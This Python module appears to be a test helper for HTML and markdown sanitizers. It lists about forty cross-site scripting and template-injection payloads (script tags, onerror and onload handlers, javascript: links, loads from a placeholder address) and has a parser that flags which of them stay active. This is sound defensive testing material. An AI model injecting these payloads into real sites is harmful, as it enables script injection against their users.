"""Markup and scripts that people send to see whether they run, and what would show it.

After OWASP's and PortSwigger's lists; each calls `alert`, loads something from
198.51.100.1 (nobody's address), or would change what is around it.
"""

from html.parser import HTMLParser

ATTACKS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//198.51.100.1/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`/onerror=alert(1)>",
    "</textarea></title></style><img src=x onerror=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<x onclick=alert(1) style=position:fixed;inset:0>x",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//198.51.100.1/>",
    "<link rel=stylesheet href=//198.51.100.1/x.css>",
    "<style>@import '//198.51.100.1/x.css';</style>",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](https://198.51.100.1/x.png)",
    "[click][x] [x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) '",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "$$\\href{javascript:alert(1)}{x}$$",
    "{{ 7 * 7 }} ${7*7} #{7*7} <%= 7 * 7 %> {% print(7 * 7) %}",
    "&lt;b&gt; **bold** `code` </div></span>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover"
    "=1/+/[*/[]/+alert(1)//'>",
)
RUNNING = {"base", "embed", "iframe", "img", "math", "object", "script", "video", "x"}
ADDRESSES = {"action", "data", "formaction", "href", "src"}
ELSEWHERE = ("javascript:", "vbscript:", "data:", "//198.51.", "https://198.51.")
WRITTEN = {"content", "srcdoc", "style"}
BAD = ("javascript:", "198.51.100.1", "alert", "position:")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.active: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in RUNNING:
            self.active.append(tag)
        for name, value in attrs:
            plain = "".join((value or "").split()).lower()
            leads = name in ADDRESSES and plain.startswith(ELSEWHERE)
            bad = name in WRITTEN and any(each in plain for each in BAD)
            if leads or bad or name.startswith("on"):
                self.active.append(f"{tag} {name}={plain}")


def active_markup(html: str) -> list[str]:
    """What of a page without scripts and pictures would run, load or lead elsewhere."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.active
